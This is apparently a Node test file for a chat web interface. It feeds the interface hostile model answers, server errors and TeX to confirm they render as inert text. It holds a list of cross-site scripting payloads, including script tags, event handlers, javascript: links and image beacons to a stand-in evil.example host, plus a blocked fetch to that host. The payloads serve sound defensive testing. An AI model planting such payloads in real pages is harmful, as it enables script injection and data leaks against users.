// What a model writes is never run, loaded or sent anywhere, whatever it writes.
import assert from "node:assert/strict";
import { test } from "node:test";

import { SCENES } from "./scenes.mjs";
import { answered, ask, lists, noBrowser, openPage, refuses, says, trouble, world } from "./support.mjs";

const all = world();
const settings = { skip: noBrowser };

const SAMPLES = [
  "<script>alert(1)</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "text <img src='https://evil.example/leak?q=1'> text",
  "![alt](https://evil.example/leak.png)",
  "![alt][r]\n\n[r]: https://evil.example/leak.png \"t\"",
  "[![alt](https://evil.example/i.png)](javascript:alert(1))",
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
  "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
  "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<form action=https://evil.example/><input name=a autofocus onfocus=alert(1)><button>Send</button></form>",
  "<details open ontoggle=alert(1)>x</details><video src=x onerror=alert(1)></video>",
  "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](data:text/html,<script>alert(1)</script>)",
  "[click](&#106;avascript:alert(1)) [click](javascript&colon;alert(1)) [click](java\u0000script:alert(1))",
  "<javascript:alert(1)> <vbscript:x> [x]: javascript:alert(1)\n\n[x]",
  '[a](https://example.org/"onmouseover="alert(1)) [b](<https://example.org/" onclick="alert(1)> "t\\" onclick=\\"alert(1)")',
  "```\"><img/src=x/onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
  "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
  "`<img src=x onerror=alert(1)>` **<img src=x onerror=alert(1)>**",
  "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| <b onclick=alert(1)>x</b> | y |",
  "# <img src=x onerror=alert(1)>\n\n1. <script>alert(1)</script>\n\n> <iframe src=javascript:alert(1)>",
  "</div></article></main><script>alert(1)</script><!-- --!><img src=x onerror=alert(1)>-->",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} __proto__ [x](__proto__) [y][__proto__]\n\n[__proto__]: x",
];

/** Elements and attributes that no answer may bring into the page. */
function intruders() {
  const thread = document.querySelector(".thread");
  const found = [...thread.querySelectorAll("script,img,iframe,object,embed,style,link,base,meta,form,input,video,audio,math,animate")];
  for (const element of thread.querySelectorAll("*")) {
    for (const { name } of element.attributes) {
      if (/^on|^style$|^src|^srcdoc$|^action$/.test(name)) found.push(element);
    }
  }
  const links = [...thread.querySelectorAll("a")].map(({ href }) => href).filter((href) => !/^(https?|mailto):/.test(href));
  return [...found.map((element) => element.outerHTML), ...links];
}

test("hostile answers are text", settings, async () => {
  const page = await openPage(all.browser, all.front.url);
  for (const sample of SAMPLES) {
    all.front.on["POST /v1/chat/completions"] = says(sample, { size: 5 });
    await ask(page, sample); // the question is shown too, and is the title of the first conversation
    await answered(page);
    assert.deepEqual(await page.evaluate(intruders), [], sample);
  }
  const shown = await page.locator(".thread").innerText();
  assert.match(shown, /<script>alert\(1\)<\/script>/, "it is there to be read");
  for (const link of await page.locator(".answer a").all()) await link.hover();
  await page.reload();
  await page.locator(".entry").first().click();
  assert.equal(await page.locator(".answer").count(), SAMPLES.length);
  assert.deepEqual(await page.evaluate(intruders), []);
  assert.deepEqual(await trouble(page), []);
  await page.context().close();
});

test("hostile names and messages of the server are text", settings, async () => {
  const bad = '"><img src=x onerror=alert(1)><script>alert(1)</script>';
  all.front.on["GET /v1/models"] = lists({ id: bad, status: "not ready", reason: bad });
  all.front.on["POST /v1/chat/completions"] = refuses(503, bad, { "retry-after": "1" });
  const page = await openPage(all.browser, all.front.url);
  await ask(page, "Hello");
  await page.getByRole("alert").getByText("onerror=alert(1)").waitFor();
  assert.deepEqual(await page.evaluate(intruders), []);
  assert.equal(await page.locator("img").count(), 0);
  assert.deepEqual(await trouble(page), []);
  await page.context().close();
});

test("the browser itself refuses what would make HTML, or load and send elsewhere", settings, async () => {
  const page = await openPage(all.browser, all.front.url);
  const refused = await page.evaluate(async () => {
    const tries = {
      html: () => (document.createElement("div").innerHTML = "<b>x</b>"),
      script: () => (document.createElement("script").textContent = "alert(1)"),
      elsewhere: () => fetch("https://evil.example/"),
    };
    const results = [];
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        await attempt();
      } catch {
        results.push(name);
      }
    }
    const image = new Image();
    const failed = new Promise((resolve) => (image.onerror = resolve));
    image.src = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==";
    await failed;
    return results;
  });
  assert.deepEqual(refused, ["html", "script", "elsewhere"]);
  await page.context().close();
});

/** The longest that the page's thread was held up since the last call, in milliseconds. */
const heldUp = (page) => page.evaluate(() => Math.round(Math.max(0, ...window.held.splice(0))));

// Of the page's own work, under 200 ms each. The guard is for machines that do much else; without workers it takes minutes.
const GUARD_MILLISECONDS = 15_000;

test("answers made to hold up the page do not: as they come in pieces, at once, and when the page is loaded again", settings, async () => {
  const page = await openPage(all.browser, all.front.url);
  const watch = () => {
    window.held = [];
    new PerformanceObserver((list) => window.held.push(...list.getEntries().map(({ duration }) => duration))).observe({ type: "longtask" });
  };
  await page.addInitScript(watch);
  await page.evaluate(watch);
  const chosen = ["underscores", "nested emphasis", "brackets", "backticks of all lengths", "nested list", "table of columns and rows"];
  chosen.push("definitions and references", "code as xml", "paragraphs of one letter", "formulas", "macros in TeX");
  const scenes = process.env.PAGE_SCENES === "all" ? Object.keys(SCENES) : chosen;
  const times = {};
  for (const name of scenes) {
    const text = SCENES[name](60_000);
    for (const size of [600, 60_000]) {
      all.front.on["POST /v1/chat/completions"] = says(text, { size, rest: 5 });
      await ask(page, name);
      await page.getByRole("textbox", { name: "Message", exact: true }).fill("can be written meanwhile");
      await answered(page);
      times[`${name}, pieces of ${size}`] = await heldUp(page);
    }
    await page.reload();
    await page.locator(".entry").first().click();
    await answered(page);
    times[`${name}, loaded again`] = await heldUp(page);
    await page.getByRole("button", { name: "New conversation" }).click();
  }
  if (process.env.PAGE_TIMES) console.table(times);
  const slow = Object.entries(times).filter(([, milliseconds]) => milliseconds > GUARD_MILLISECONDS);
  assert.deepEqual(slow, []);
  assert.deepEqual(await trouble(page), []);
  await page.context().close();
});

test("what workers can be is what the page has for them", settings, async () => {
  const page = await openPage(all.browser, all.front.url);
  const refused = await page.evaluate(() => {
    const tries = {
      "a name": () => new Worker("assets/text.js"),
      "a blob": () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
      "the page's own policy again": () => trustedTypes.createPolicy("workers", { createScriptURL: (url) => url }),
      "another policy": () => trustedTypes.createPolicy("more", { createScriptURL: (url) => url }),
    };
    return Object.entries(tries).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [];
      } catch {
        return [name];
      }
    });
  });
  assert.deepEqual(refused, ["a name", "a blob", "the page's own policy again", "another policy"]);
  await page.context().close();
});

test("TeX brings nothing into the page but MathML, and paints over nothing", settings, async () => {
  const page = await openPage(all.browser, all.front.url);
  const samples = ["\\href{javascript:alert(1)}{x}", "\\url{https://evil.example}", "\\includegraphics{https://evil.example/x.png}"];
  samples.push("\\htmlStyle{position:fixed}{x}", "\\htmlId{page}{x}", "\\text{<img src=x onerror=alert(1)>}", "\\fcolorbox{red;}{blue}{x}");
  samples.push("\\rule{999em}{999em}", "\\kern-99em\\rule{99em}{9em}", "\\raisebox{99em}{\\rule{9em}{9em}}x", "\\fcolorbox{red}{blue}{x}");
  all.front.on["POST /v1/chat/completions"] = says(samples.map((tex) => `$${tex}$`).join("\n\n"));
  await ask(page, "TeX");
  const answer = await answered(page);
  const found = await answer.evaluate((element) => {
    const inside = [...element.querySelectorAll("math, math *")];
    return inside.flatMap(({ tagName, namespaceURI, attributes }) => [
      ...(namespaceURI === "http://www.w3.org/1998/Math/MathML" ? [] : [tagName]),
      ...[...attributes].map(({ name }) => name).filter((name) => /^(on|style|src|href|id$)/.test(name)),
    ]);
  });
  assert.deepEqual(found, []);
  assert.equal(await answer.locator("img, a").count(), 0);
  assert.ok((await answer.locator("math").count()) >= 4);
  assert.match(await answer.innerText(), /\$\\href\{javascript:alert\(1\)\}\{x\}\$/);
  const box = await page.getByRole("textbox", { name: "Message", exact: true }).boundingBox();
  const top = await page.evaluate(({ x, y }) => document.elementFromPoint(x + 5, y + 5).tagName, box);
  assert.equal(top, "TEXTAREA");
  assert.deepEqual(await trouble(page), []);
  await page.context().close();
});
